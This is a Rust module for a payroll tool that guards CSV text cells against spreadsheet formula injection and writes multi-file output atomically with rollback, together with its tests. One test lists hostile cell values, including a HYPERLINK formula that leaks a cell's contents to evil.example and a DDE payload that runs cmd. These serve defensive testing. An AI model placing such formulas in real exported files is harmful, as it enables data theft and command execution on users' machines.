//! Files that cannot hurt the office: how payrules writes what it writes.
//!
//! **CSV text cells.** A spreadsheet reads a cell that begins with `=`, `+`,
//! `-` or `@` as a formula, and strips a leading tab or carriage return
//! before doing the same. So every *text* cell payrules writes to a CSV file
//! (worker ids, names, units, messages, codes, file names) goes through
//! [`csv_text`]: one that begins with `=`, `+`, `-`, `@`, tab or carriage
//! return is written with a `'` in front (the OWASP rule), and a spreadsheet
//! shows it as text. Nothing else in the cell changes; a leading tab is kept
//! after the `'`. Amounts are numbers, not text, and are written as they are
//! (`-12.50` stays `-12.50`).
//!
//! **All outputs of one command, or none.** A [`CommitSet`] writes each file
//! into a temporary created exclusively (`O_EXCL`, random name) in the
//! file's own directory, flushes and fsyncs it, and only when every file is
//! written renames them all into place (and removes the files the command
//! makes stale, such as an old `NAME.errors.csv` after a run without errors).
//! Should any file fail — a full disk, a size limit — the temporaries are
//! removed and every old file stays as it was. Renaming is the one step that
//! touches the old files: each is first kept under a second name (a hard
//! link), so that a rename that fails after another succeeded undoes those
//! before it (on a file system without hard links, such as FAT, the files
//! are still replaced, but a failed rename cannot undo the others).
//!
//! A temporary is never a file or link someone planted: it is created anew
//! under a random name, and creation fails rather than follow a link. A
//! link at the output's own name is replaced by the file, never written
//! through. A file that replaces another keeps the old one's permission
//! bits; a new file is `0600` (only its owner reads it) unless the command
//! was given `--mode OCTAL`.

use std::borrow::Cow;
use std::io::{self, Write};
use std::path::{Path, PathBuf};

/// A CSV text cell made safe for a spreadsheet: `'` in front when it begins
/// with `=`, `+`, `-`, `@`, tab or carriage return; else unchanged.
///
/// ```
/// use payrules::hrfile::output::csv_text;
/// assert_eq!(csv_text("=1+2"), "'=1+2");
/// assert_eq!(csv_text("\tX"), "'\tX");
/// assert_eq!(csv_text("林晓"), "林晓");
/// ```
pub fn csv_text(s: &str) -> Cow<'_, str> {
    match s.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// Appends a CSV text cell to a row being written: [`csv_text`]'s cell,
/// quoted as the csv crate quotes (only when it holds `,`, `"`, a line
/// end or a carriage return; a `"` inside doubled), so that a row written
/// field by field reads back as the csv crate writes it.
///
/// ```
/// use payrules::hrfile::output::push_csv_text;
/// let mut row = Vec::new();
/// for cell in ["W1", "=SUM(A1)", "林, 晓", "say \"hi\""] {
///     push_csv_text(&mut row, cell);
///     row.push(b',');
/// }
/// assert_eq!(String::from_utf8(row).unwrap(), "W1,'=SUM(A1),\"林, 晓\",\"say \"\"hi\"\"\",");
/// ```
pub fn push_csv_text(out: &mut Vec<u8>, s: &str) {
    push_csv_field(out, csv_text(s).as_bytes());
}

/// Appends a CSV field as it is (no formula guard: for headers and
/// numbers), quoted as [`push_csv_text`] quotes.
pub fn push_csv_field(out: &mut Vec<u8>, b: &[u8]) {
    if !b.iter().any(|&c| matches!(c, b',' | b'"' | b'\n' | b'\r')) {
        out.extend_from_slice(b);
        return;
    }
    out.push(b'"');
    for part in b.split_inclusive(|&c| c == b'"') {
        out.extend_from_slice(part);
        if part.ends_with(b"\"") {
            out.push(b'"');
        }
    }
    out.push(b'"');
}

/// The permission bits given with `--mode`: octal, at most `7777`.
pub fn parse_mode(s: &str) -> Result<u32, String> {
    let t = s.trim_start_matches("0o");
    match u32::from_str_radix(t, 8) {
        Ok(m) if m <= 0o7777 && !t.is_empty() => Ok(m),
        _ => Err(format!(
            "{s:?} is not an octal file mode such as 600 or 644"
        )),
    }
}

/// The files one command writes, committed together or not at all (see the
/// module documentation).
#[derive(Debug, Default)]
pub struct CommitSet {
    mode: Option<u32>,
    staged: Vec<(tempfile::NamedTempFile, PathBuf)>,
    stale: Vec<PathBuf>,
}

/// `path: error`, keeping the error's kind.
fn at(path: &Path, e: io::Error) -> io::Error {
    io::Error::new(e.kind(), format!("{}: {e}", path.display()))
}

impl CommitSet {
    /// A set whose new files get `mode` (default `0600`).
    pub fn new(mode: Option<u32>) -> Self {
        CommitSet {
            mode,
            ..Default::default()
        }
    }

    /// Writes `path`'s new content with `f` into a temporary beside it
    /// (the error does not repeat the path: the caller knows it).
    pub fn add(
        &mut self,
        path: &Path,
        f: impl FnOnce(&mut io::BufWriter<&std::fs::File>) -> io::Result<()>,
    ) -> io::Result<()> {
        let dir = match path.parent() {
            Some(d) if !d.as_os_str().is_empty() => d,
            _ => Path::new("."),
        };
        let mut prefix = std::ffi::OsString::from(".");
        prefix.push(path.file_name().unwrap_or_default());
        prefix.push(".");
        let tmp = tempfile::Builder::new()
            .prefix(&prefix)
            .suffix(".tmp")
            .tempfile_in(dir)?;
        {
            let mut w = io::BufWriter::with_capacity(1 << 16, tmp.as_file());
            f(&mut w)?;
            w.flush()?;
        }
        self.set_mode(path, tmp.as_file())?;
        tmp.as_file().sync_all()?;
        self.staged.push((tmp, path.to_path_buf()));
        Ok(())
    }

    #[cfg(unix)]
    fn set_mode(&self, path: &Path, file: &std::fs::File) -> io::Result<()> {
        use std::os::unix::fs::PermissionsExt;
        let old = std::fs::symlink_metadata(path)
            .ok()
            .filter(|m| m.is_file())
            .map(|m| m.permissions().mode() & 0o7777);
        let mode = old.or(self.mode).unwrap_or(0o600);
        file.set_permissions(std::fs::Permissions::from_mode(mode))
    }

    #[cfg(not(unix))]
    fn set_mode(&self, _path: &Path, _file: &std::fs::File) -> io::Result<()> {
        Ok(())
    }

    /// Removes `path`, if it is there, when the set commits.
    pub fn remove(&mut self, path: &Path) {
        self.stale.push(path.to_path_buf());
    }

    /// Renames every file into place, then removes the stale ones. Each old
    /// file is first kept under a second name (a hard link beside it), so
    /// that should a rename or removal fail, the ones done before it are
    /// undone and every old file is as it was.
    pub fn commit(self) -> io::Result<()> {
        let mut dirs: Vec<PathBuf> = Vec::new();
        let mut touched: Vec<(PathBuf, Old)> = Vec::new();
        let CommitSet { staged, stale, .. } = self;
        let result = (|| {
            for (tmp, path) in staged {
                let old = backup(&path)?;
                tmp.persist(&path).map_err(|e| at(&path, e.error))?;
                if let Some(d) = path.parent() {
                    dirs.push(d.to_path_buf());
                }
                touched.push((path, old));
            }
            for path in stale {
                let old = backup(&path)?;
                if matches!(old, Old::New) {
                    continue;
                }
                std::fs::remove_file(&path).map_err(|e| at(&path, e))?;
                touched.push((path, old));
            }
            Ok(())
        })();
        if result.is_err() {
            for (path, old) in touched.into_iter().rev() {
                let _ = match old {
                    Old::Kept(b) => std::fs::rename(b.path(), &path),
                    Old::New => std::fs::remove_file(&path),
                    Old::Lost => Ok(()),
                };
            }
            return result;
        }
        // The renames last across a crash once the directory is synced.
        #[cfg(unix)]
        for d in dirs {
            let d = if d.as_os_str().is_empty() {
                PathBuf::from(".")
            } else {
                d
            };
            if let Ok(f) = std::fs::File::open(&d) {
                let _ = f.sync_all();
            }
        }
        Ok(())
    }
}

/// What was at a path before the set committed.
enum Old {
    /// Nothing: undoing removes the new file.
    New,
    /// The old file under a second name, removed when dropped.
    Kept(tempfile::NamedTempFile<()>),
    /// The old file, which could not be given a second name (a file system
    /// without hard links): it is replaced all the same, but cannot be put
    /// back.
    Lost,
}

/// `path` hard-linked under a fresh random name beside it.
fn backup(path: &Path) -> io::Result<Old> {
    match std::fs::symlink_metadata(path) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Old::New),
        Err(e) => return Err(at(path, e)),
        Ok(_) => {}
    }
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let mut prefix = std::ffi::OsString::from(".");
    prefix.push(path.file_name().unwrap_or_default());
    prefix.push(".");
    Ok(tempfile::Builder::new()
        .prefix(&prefix)
        .suffix(".old")
        .make_in(dir, |p| std::fs::hard_link(path, p))
        .map_or(Old::Lost, Old::Kept))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn read_back(cells: &[&str]) -> Vec<String> {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(cells.iter().map(|c| csv_text(c).into_owned()))
            .unwrap();
        let bytes = w.into_inner().unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        let rec = r.records().next().unwrap().unwrap();
        rec.iter().map(str::to_string).collect()
    }

    #[test]
    fn formulas_get_a_quote_and_text_does_not() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "\tX",
            "+1",
            "-1",
            "@SUM(A1)",
            "\r=1",
        ];
        for h in hostile {
            assert_eq!(read_back(&[h]), vec![format!("'{h}")]);
        }
        for ok in ["林晓", "W001", "a=b", "'=x", "", " =x"] {
            assert_eq!(read_back(&[ok]), vec![ok.to_string()]);
        }
    }

    proptest! {
        /// A row written field by field is byte for byte the row the csv
        /// crate writes: commas, quotes, line ends, formulas, Chinese.
        #[test]
        fn rows_written_by_hand_are_the_csv_crates(
            cells in prop::collection::vec("[a-z=+@\\-\t\r\n,\" 林晓]{0,8}", 2..6)
        ) {
            let mut w = csv::Writer::from_writer(Vec::new());
            w.write_record(cells.iter().map(|c| csv_text(c).into_owned())).unwrap();
            let want = w.into_inner().unwrap();
            let mut got = Vec::new();
            for (i, c) in cells.iter().enumerate() {
                if i > 0 {
                    got.push(b',');
                }
                push_csv_text(&mut got, c);
            }
            got.push(b'\n');
            prop_assert_eq!(String::from_utf8(got).unwrap(), String::from_utf8(want).unwrap());
        }
    }

    #[test]
    fn modes() {
        assert_eq!(parse_mode("600"), Ok(0o600));
        assert_eq!(parse_mode("0644"), Ok(0o644));
        assert!(parse_mode("9").is_err());
        assert!(parse_mode("").is_err());
        assert!(parse_mode("17777").is_err());
    }

    proptest! {
        #[test]
        fn any_text_round_trips_up_to_the_quote(s in any::<String>(), t in "[=+@\t\r-]?.{0,8}") {
            let back = read_back(&[&s, &t]);
            prop_assert_eq!(back[0].clone(), csv_text(&s).into_owned());
            prop_assert_eq!(back[1].clone(), csv_text(&t).into_owned());
            let strip = |b: &str, orig: &str| if csv_text(orig) != orig { b[1..].to_string() } else { b.to_string() };
            prop_assert_eq!(strip(&back[0], &s), s.clone());
            prop_assert_eq!(strip(&back[1], &t), t.clone());
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_set_commits_all_or_nothing_and_keeps_modes() {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().unwrap();
        let a = d.path().join("a.csv");
        let b = d.path().join("b.csv");
        let stale = d.path().join("a.errors.csv");
        std::fs::write(&a, "old a").unwrap();
        std::fs::set_permissions(&a, std::fs::Permissions::from_mode(0o640)).unwrap();
        std::fs::write(&stale, "old errors").unwrap();
        // b fails: a stays old, nothing else is left behind
        let mut set = CommitSet::new(None);
        set.add(&a, |w| w.write_all(b"new a")).unwrap();
        let e = set
            .add(&b, |_| Err(io::Error::other("disk full")))
            .unwrap_err();
        assert_eq!(e.to_string(), "disk full");
        drop(set);
        assert_eq!(std::fs::read_to_string(&a).unwrap(), "old a");
        assert_eq!(std::fs::read_dir(d.path()).unwrap().count(), 2);
        // both written: a keeps 0640, b new is 0600, the stale file goes
        let mut set = CommitSet::new(None);
        set.add(&a, |w| w.write_all(b"new a")).unwrap();
        set.add(&b, |w| w.write_all(b"new b")).unwrap();
        set.remove(&stale);
        set.commit().unwrap();
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
        assert_eq!(std::fs::read_to_string(&a).unwrap(), "new a");
        assert_eq!(mode(&a), 0o640);
        assert_eq!(mode(&b), 0o600);
        assert!(!stale.exists());
        // --mode applies to new files only
        let c = d.path().join("c.csv");
        let mut set = CommitSet::new(Some(0o644));
        set.add(&c, |w| w.write_all(b"c")).unwrap();
        set.add(&b, |w| w.write_all(b"b2")).unwrap();
        set.commit().unwrap();
        assert_eq!(mode(&c), 0o644);
        assert_eq!(mode(&b), 0o600);
        // a rename that fails (a directory in the way) undoes the one before
        // it and the removal of the stale file
        std::fs::write(&stale, "old errors").unwrap();
        let dirpath = d.path().join("dir.csv");
        std::fs::create_dir(&dirpath).unwrap();
        std::fs::write(dirpath.join("x"), "x").unwrap();
        let e = d.path().join("e.csv");
        let mut set = CommitSet::new(None);
        set.add(&a, |w| w.write_all(b"newer a")).unwrap();
        set.add(&e, |w| w.write_all(b"e")).unwrap();
        set.add(&dirpath, |w| w.write_all(b"d")).unwrap();
        set.remove(&stale);
        assert!(set.commit().is_err());
        assert_eq!(std::fs::read_to_string(&a).unwrap(), "new a");
        assert_eq!(mode(&a), 0o640);
        assert!(!e.exists());
        assert_eq!(std::fs::read_to_string(&stale).unwrap(), "old errors");
        let mut left: Vec<_> = std::fs::read_dir(d.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        left.sort();
        assert_eq!(left, ["a.csv", "a.errors.csv", "b.csv", "c.csv", "dir.csv"]);
    }
}
